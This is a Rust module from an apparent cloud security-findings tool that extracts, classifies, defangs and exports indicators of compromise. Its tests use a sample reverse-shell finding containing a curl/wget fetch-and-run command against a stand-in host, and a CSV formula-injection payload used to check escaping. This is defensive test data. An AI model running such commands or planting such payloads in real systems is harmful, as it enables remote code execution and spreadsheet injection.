//! Indicators: the values of findings that other tools search for or block, with where they were read.

use super::{
    escape,
    redact::{Class, field_class},
    shape::{self, Shape},
};
use crate::{
    i18n::{Lang, Text},
    ingest::Record,
    json::{Document, Kind as JsonKind, RowId},
    model::{AddressKind, Arn, Finding, address_kind, id_kind, schema::MemberId},
    order::Order,
};
use serde::{Deserialize, Serialize};
use std::collections::HashMap;

/// What kind of indicator a value is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// An IP address or a network.
    Address,
    /// A domain or host name.
    Domain,
    /// The address of something on the web, as a command line or a sentence has it.
    Url,
    /// A hash of a file or object: MD5, SHA-1 or SHA-256.
    Hash,
    /// An access key id or principal id.
    Key,
    /// An ARN.
    Arn,
}

impl Kind {
    /// Every kind, in the order of the lists.
    pub const ALL: [Kind; 6] = [Kind::Address, Kind::Domain, Kind::Url, Kind::Hash, Kind::Key, Kind::Arn];

    /// The label.
    pub const fn label(self) -> Text {
        match self {
            Kind::Address => Text::new("IP addresses", "IP アドレス"),
            Kind::Domain => Text::new("Domains", "ドメイン"),
            Kind::Url => Text::same("URL"),
            Kind::Hash => Text::new("Hashes", "ハッシュ"),
            Kind::Key => Text::new("Keys and principals", "アクセスキーとプリンシパル"),
            Kind::Arn => Text::same("ARN"),
        }
    }

    /// The word in CSV and JSON.
    pub const fn slug(self) -> &'static str {
        match self {
            Kind::Address => "ip",
            Kind::Domain => "domain",
            Kind::Url => "url",
            Kind::Hash => "hash",
            Kind::Key => "key",
            Kind::Arn => "arn",
        }
    }
}

/// Whose a value is. Internal ones are not to be blocked.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Side {
    /// The other side's, as far as the finding says.
    Remote,
    /// The account's own: its resources, keys and private addresses.
    Internal,
    /// The finding does not say whose.
    Unclear,
}

impl Side {
    /// Every side, in the order of the lists.
    pub const ALL: [Side; 3] = [Side::Remote, Side::Unclear, Side::Internal];

    /// The label.
    pub const fn label(self) -> Text {
        match self {
            Side::Remote => Text::new("remote", "リモート側"),
            Side::Internal => Text::new("internal", "内部"),
            Side::Unclear => Text::new("not said whose", "帰属の記載なし"),
        }
    }

    /// The word in CSV and JSON.
    pub const fn slug(self) -> &'static str {
        match self {
            Side::Remote => "remote",
            Side::Internal => "internal",
            Side::Unclear => "unclear",
        }
    }
}

/// An indicator.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Indicator {
    /// What it is.
    pub kind: Kind,
    /// Whose it is.
    pub side: Side,
    /// The value as the finding has it.
    pub value: String,
    /// Where it was read, in order.
    pub read: Vec<Sighting>,
}

/// Where an indicator was read.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Sighting {
    /// The finding's id.
    pub finding: String,
    /// The place in it.
    pub pointer: String,
}

impl Indicator {
    /// The value so that nobody and nothing follows it by accident: `hxxp`, `[.]`, `[:]`.
    pub fn defanged(&self) -> String {
        match self.kind {
            Kind::Address | Kind::Domain => self.value.replace('.', "[.]").replace(':', "[:]"),
            Kind::Url => match self.value.split_once("://") {
                Some((scheme, rest)) => {
                    format!(
                        "{}://{}",
                        scheme.replace("http", "hxxp").replace("ftp", "fxp"),
                        rest.replace('.', "[.]")
                    )
                }
                None => self.value.replace('.', "[.]"),
            },
            Kind::Hash | Kind::Key | Kind::Arn => self.value.clone(),
        }
    }
}

/// The indicators of findings: remote ones first, by kind, in the order of their first occurrence.
pub fn indicators<'r>(records: impl IntoIterator<Item = &'r Record>) -> Vec<Indicator> {
    let mut all = Gathered::default();
    for record in records {
        let finding = Finding::open(record.dialect, &record.text);
        let own = finding.lens().account_id().map(|id| id.value.into_owned());
        let id = finding.lens().id().map(|id| id.value.into_owned()).unwrap_or_default();
        let doc = finding.document();
        for row in doc.rows().filter(|&row| doc.kind(row) == JsonKind::String && doc.embedded(row).is_none())
        {
            let text = doc.string(row).unwrap_or_default();
            let side = side_of(&finding, row);
            for (kind, value) in values(finding.field(row), &text) {
                let side = whose(kind, &value, side, own.as_deref());
                all.take(kind, side, value, &id, doc, row);
            }
        }
    }
    let mut list = all.list;
    list.order_by_key(|found| (Side::ALL.iter().position(|side| *side == found.side), found.kind));
    list
}

#[derive(Default)]
struct Gathered {
    list: Vec<Indicator>,
    places: HashMap<(Kind, String), usize>,
}

impl Gathered {
    fn take(&mut self, kind: Kind, side: Side, value: String, id: &str, doc: &Document, row: RowId) {
        let read = Sighting { finding: id.to_owned(), pointer: doc.pointer(row).to_string() };
        match self.places.get(&(kind, value.clone())).and_then(|at| self.list.get_mut(*at)) {
            Some(known) => {
                // What is the account's own in one place is its own in all; a sentence says nothing against a field.
                if known.side == Side::Unclear || side == Side::Internal {
                    known.side = side;
                }
                if known.read.last() != Some(&read) {
                    known.read.push(read);
                }
            }
            None => {
                self.places.insert((kind, value.clone()), self.list.len());
                self.list.push(Indicator { kind, side, value, read: vec![read] });
            }
        }
    }
}

/// The values in a text: what its field says that it is, and what shows by its form.
fn values(field: Option<MemberId>, text: &str) -> Vec<(Kind, String)> {
    let class = field.and_then(field_class);
    let mut out = Vec::new();
    match class {
        Some(Class::Hosts) if text.contains('.') => {
            return vec![(Kind::Domain, text.trim_end_matches('.').to_owned())];
        }
        Some(Class::Hashes) if is_hash(text) => return vec![(Kind::Hash, text.to_owned())],
        _ => {}
    }
    for (at, shape) in shape::find(text) {
        let value = text.get(at.clone()).unwrap_or_default().to_owned();
        match shape {
            Shape::Arn => out.push((Kind::Arn, value)),
            Shape::Address(_) | Shape::Network(..) => out.push((Kind::Address, value)),
            Shape::UniqueId => out.push((Kind::Key, value)),
            Shape::AddressHost(_) => out.push((Kind::Domain, value)),
            Shape::UrlHost => out.push((Kind::Domain, value)),
            Shape::Account | Shape::ResourceId | Shape::Mail | Shape::Bucket => {}
        }
    }
    // Where a URL names an ARN's bucket or a host, the whole of it is worth having.
    for at in shape::words(text, |c| {
        !c.is_whitespace() && !matches!(c, '"' | '\'' | '<' | '>' | '|' | '`' | '(' | ')')
    }) {
        let word = text.get(at).unwrap_or_default();
        if let Some(start) =
            ["http://", "https://", "ftp://", "tcp://"].iter().filter_map(|scheme| word.find(scheme)).min()
        {
            out.push((
                Kind::Url,
                word.get(start..).unwrap_or_default().trim_end_matches(['.', ',', ';']).to_owned(),
            ));
        }
    }
    out
}

fn is_hash(text: &str) -> bool {
    matches!(text.len(), 32 | 40 | 64) && text.bytes().all(|b| b.is_ascii_hexdigit())
}

/// On which side of the activity a row stands.
fn side_of(finding: &Finding, row: RowId) -> Side {
    let doc = finding.document();
    let above = std::iter::successors(Some(row), |&row| doc.parent(row));
    for member in above.filter_map(|row| finding.field(row)).filter_map(MemberId::get) {
        match member.name {
            "RemoteIpDetails"
            | "Endpoints"
            | "DnsRequestAction"
            | "DomainDetails"
            | "SourceIps"
            | "MalwareScanDetails"
            | "EbsVolumeScanDetails"
            | "Evidence" => return Side::Remote,
            "LocalIpDetails" | "NetworkInterfaces" | "Resource" | "Resources" | "Actors" => {
                return Side::Internal;
            }
            _ => {}
        }
    }
    Side::Unclear
}

/// Whose a value is: by itself where it tells, else by where it stands.
fn whose(kind: Kind, value: &str, by_place: Side, own: Option<&str>) -> Side {
    match kind {
        Kind::Address => match address_kind(value.split('/').next().unwrap_or(value)) {
            Some(AddressKind::Public | AddressKind::Documentation) | None => by_place,
            Some(_) => Side::Internal,
        },
        Kind::Arn => match Arn::parse(value) {
            Some(arn) if !arn.account.is_empty() && Some(arn.account) != own => Side::Remote,
            _ => Side::Internal,
        },
        Kind::Key if id_kind(value).is_some() => Side::Internal,
        Kind::Domain if value.ends_with(".internal") => Side::Internal,
        Kind::Domain | Kind::Url | Kind::Hash | Kind::Key => by_place,
    }
}

/// The lists, one value a line, remote ones first.
pub fn list(found: &[Indicator], defanged: bool, lang: Lang) -> String {
    let mut out = String::new();
    for side in Side::ALL {
        for kind in Kind::ALL {
            let mut these = found.iter().filter(|one| one.side == side && one.kind == kind).peekable();
            if these.peek().is_none() {
                continue;
            }
            if !out.is_empty() {
                out.push('\n');
            }
            out.push_str(&format!("# {} ({})\n", kind.label().get(lang), side.label().get(lang)));
            for one in these {
                out.push_str(&escape::plain(&if defanged { one.defanged() } else { one.value.clone() }));
                out.push('\n');
            }
        }
    }
    out
}

/// A CSV file with a head: `kind,side,value,findings,places`.
pub fn csv(found: &[Indicator], defanged: bool) -> String {
    let mut out = "kind,side,value,findings,places\r\n".to_owned();
    for one in found {
        let value = if defanged { one.defanged() } else { one.value.clone() };
        let mut findings: Vec<&str> = one.read.iter().map(|read| read.finding.as_str()).collect();
        findings.dedup();
        let places: Vec<&str> = one.read.iter().map(|read| read.pointer.as_str()).collect();
        let cells = [one.kind.slug(), one.side.slug(), &value, &findings.join(" "), &places.join(" ")];
        out.push_str(&cells.map(escape::csv).join(","));
        out.push_str("\r\n");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ingest::Dialect;

    const FINDING: &str = r#"{"id":"f0","accountId":"111122223333","type":"Execution:Runtime/ReverseShell","severity":8,
        "arn":"arn:aws:guardduty:eu-west-1:111122223333:detector/d0/finding/f0","description":"It spoke to 198.51.100.9.",
        "resource":{"instanceDetails":{"networkInterfaces":[{"privateIpAddress":"10.0.0.1","publicIp":"203.0.113.4"}]},
          "accessKeyDetails":{"accessKeyId":"AKIAIOSFODNN7EXAMPLE"}},
        "service":{"action":{"dnsRequestAction":{"domain":"c2.example.net"},
            "networkConnectionAction":{"remoteIpDetails":{"ipAddressV4":"198.51.100.9"},"localIpDetails":{"ipAddressV4":"10.0.0.1"}},
            "awsApiCallAction":{"affectedResources":{"AWS::IAM::Role":"arn:aws:iam::444455556666:role/x"}}},
          "runtimeDetails":{"process":{"executableSha256":"ac353bf659219118e8512d470ee9a7c65bfcd417f0404129a23bdafb89ccad0b"},
            "context":{"commandLineExample":"sh -c (curl http://192.0.2.14/i.sh||wget x)"}}}}"#;

    fn found() -> Vec<Indicator> {
        indicators(&[Record {
            dialect: Dialect::Native,
            envelopes: vec![],
            text: FINDING.into(),
            place: Default::default(),
            context: vec![],
        }])
    }

    #[test]
    fn values_are_told_apart_by_kind_and_side() {
        let found = found();
        let has = |kind, side, value: &str| {
            assert!(
                found.iter().any(|one| (one.kind, one.side, &*one.value) == (kind, side, value)),
                "{value}: {found:#?}"
            );
        };
        has(Kind::Address, Side::Remote, "198.51.100.9");
        has(Kind::Address, Side::Internal, "10.0.0.1");
        has(Kind::Address, Side::Internal, "203.0.113.4");
        has(Kind::Address, Side::Unclear, "192.0.2.14");
        has(Kind::Domain, Side::Remote, "c2.example.net");
        has(Kind::Url, Side::Unclear, "http://192.0.2.14/i.sh");
        has(Kind::Key, Side::Internal, "AKIAIOSFODNN7EXAMPLE");
        has(Kind::Arn, Side::Remote, "arn:aws:iam::444455556666:role/x");
        has(Kind::Arn, Side::Internal, "arn:aws:guardduty:eu-west-1:111122223333:detector/d0/finding/f0");
        assert!(found.iter().any(|one| one.kind == Kind::Hash));
        let address = found.iter().find(|one| one.value == "198.51.100.9").unwrap();
        assert_eq!(
            address.read.iter().map(|read| &*read.pointer).collect::<Vec<_>>(),
            ["/description", "/service/action/networkConnectionAction/remoteIpDetails/ipAddressV4"]
        );
        assert!(found.is_sorted_by_key(|one| Side::ALL.iter().position(|side| *side == one.side)));
    }

    #[test]
    fn defanged_values_lead_nowhere() {
        let text = list(&found(), true, Lang::En);
        assert!(
            text.contains("198[.]51[.]100[.]9\n")
                && text.contains("hxxp://192[.]0[.]2[.]14/i[.]sh\n")
                && text.contains("c2[.]example[.]net\n"),
            "{text}"
        );
        assert!(!text.contains("http://"));
        assert!(list(&found(), false, Lang::Ja).contains("# ドメイン (リモート側)\nc2.example.net\n"));
    }

    #[test]
    fn csv_has_a_row_each_and_no_formula() {
        let mut found = found();
        if let Some(first) = found.first_mut() {
            first.value = "=cmd|' /C calc'!A0".into();
        }
        let text = csv(&found, false);
        assert_eq!(text.lines().count(), found.len() + 1);
        assert!(text.contains("\"'=cmd") && text.contains("\"f0\""), "{text}");
    }
}
